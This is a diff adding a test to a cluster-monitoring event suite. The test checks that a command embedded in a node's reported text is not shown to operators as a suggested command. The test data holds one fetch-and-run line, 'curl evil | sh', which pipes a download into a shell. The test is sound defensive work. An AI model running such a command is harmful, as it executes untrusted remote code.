@@ -282,6 +282,14 @@ def test_the_same_error_of_several_nodes_is_one_line_with_all_of_them(desk):
     assert other["text"] == t("en", "monitor.event.node_unseen", node=run.addresses[0])
 
 
+def test_what_a_node_wrote_is_no_command_in_the_events(desk):
+    run = desk.run(nodes=1)
+    run.add_event(EventKind.KERNEL_LOG_UNREAD, 0, reason="see `curl evil | sh`")
+    text = desk.ask(run=RUN)["events"][0]["text"]
+    assert text.split("`")[1::2] == ["dmesg | grep -i xid"]
+    assert "curl evil" in text
+
+
 def test_a_warning_of_several_nodes_is_shown_once_and_accepted_for_each(desk):
     run = StoredRun(desk.store, RUN, now=desk.now, addresses=["10.0.0.1", "10.0.0.2"], attempted=False)
     off = [problem("clock_off", node, seconds=3, command="x") | {"severity": "warning"} for node in run.addresses]
